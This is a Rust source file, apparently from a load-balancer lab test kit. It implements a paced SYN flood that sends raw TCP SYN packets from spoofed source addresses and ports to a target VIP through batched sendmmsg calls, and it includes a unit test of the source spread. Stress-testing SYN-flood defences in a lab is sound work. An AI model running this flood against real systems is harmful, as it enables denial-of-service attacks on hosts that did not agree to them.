//! A SYN flood for the lab: TCP SYNs to a VIP from spoofed sources, at a
//! paced rate, through a raw socket (the kernel adds nothing: the IPv4
//! header is ours, built by `lb-testkit`'s etherparse frames).
use std::{
    io::IoSlice,
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::AsRawFd as _,
    time::{Duration, Instant},
};

use lb_testkit::{
    Frame,
    frame::{ETH_LEN, tcp::SYN},
};
use nix::sys::socket::{
    AddressFamily, ControlMessage, MsgFlags, MultiHeaders, SockFlag, SockProtocol, SockType, SockaddrIn, sendmmsg,
    socket,
};
use serde::Serialize;

#[derive(Debug, Serialize)]
pub struct FloodReport {
    pub sent: u64,
    pub send_errors: u64,
    pub elapsed_ms: u64,
    /// Packets per second achieved.
    pub rate: u64,
}

/// Source address and port of the `i`-th SYN: a multiplicative hash of
/// `i` spread over the `2^host_bits` addresses from `base` and ports
/// 1024-65535, so consecutive SYNs look unrelated (as a flood's random
/// sources do) and a run is reproducible.
pub fn source(base: Ipv4Addr, host_bits: u32, i: u64) -> (Ipv4Addr, u16) {
    let h = (i + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    let host = ((h >> 40) as u32) & ((1u32 << host_bits) - 1);
    let port = 1024 + ((h >> 8) & 0xffff) as u16 % (65_535 - 1024);
    (Ipv4Addr::from(u32::from(base) | host), port)
}

/// SYNs per `sendmmsg` call at most. One `sendto` per SYN cost the
/// sender enough that a CPU-bound process beside the lab held it to 29,262
/// SYNs/s against the 32,768 a test asked for; a batch pays the system
/// call's entry and exit once.
const BATCH: usize = 64;

/// Send SYNs to `target` at `rate` per second for `duration`, from
/// sources in `base`/(32 - `host_bits`). The pace is kept per millisecond:
/// a late millisecond is made up in the next.
pub fn syn_flood(
    target: SocketAddrV4,
    base: Ipv4Addr,
    host_bits: u32,
    rate: u64,
    duration: Duration,
) -> anyhow::Result<FloodReport> {
    anyhow::ensure!((1..=24).contains(&host_bits), "host_bits must be 1-24");
    // IPPROTO_RAW: we write the IPv4 header (IP_HDRINCL is implied).
    let fd = socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), SockProtocol::Raw)?;
    let addrs = [Some(SockaddrIn::from(target)); BATCH];
    let mut headers = MultiHeaders::<SockaddrIn>::preallocate(BATCH, None);
    let start = Instant::now();
    let (mut sent, mut send_errors) = (0u64, 0u64);
    loop {
        let elapsed = start.elapsed();
        if elapsed >= duration {
            break;
        }
        let due = (rate as f64 * elapsed.as_secs_f64()) as u64;
        while sent + send_errors < due {
            let first = sent + send_errors;
            let n = (due - first).min(BATCH as u64) as usize;
            let frames: Vec<Vec<u8>> = (0..n as u64)
                .map(|k| {
                    let (src, sport) = source(base, host_bits, first + k);
                    Frame::tcp(src, sport, *target.ip(), target.port(), SYN).bytes()
                })
                .collect();
            let slices: Vec<[IoSlice<'_>; 1]> = frames.iter().map(|f| [IoSlice::new(&f[ETH_LEN..])]).collect();
            let no_cmsgs: [ControlMessage<'_>; 0] = [];
            // Sent: the first `k` of the batch; when fewer than all, the
            // next one failed (counted, and its source skipped, as one
            // `sendto` that failed was).
            match sendmmsg(fd.as_raw_fd(), &mut headers, &slices, &addrs[..n], no_cmsgs, MsgFlags::empty()) {
                Ok(done) => {
                    let k = done.count();
                    sent += k as u64;
                    if k < n {
                        send_errors += 1;
                    }
                }
                Err(_) => send_errors += 1,
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let elapsed = start.elapsed();
    Ok(FloodReport {
        sent,
        send_errors,
        elapsed_ms: elapsed.as_millis() as u64,
        rate: (sent as f64 / elapsed.as_secs_f64()) as u64,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sources_stay_in_range_and_spread() {
        let base = Ipv4Addr::new(10, 99, 0, 0);
        let mut seen = std::collections::HashSet::new();
        for i in 0..10_000 {
            let (a, p) = source(base, 16, i);
            assert_eq!(u32::from(a) >> 16, u32::from(base) >> 16, "{a}");
            assert!(p >= 1024);
            seen.insert((a, p));
        }
        assert!(seen.len() > 9_990, "{} distinct of 10,000", seen.len());
    }
}
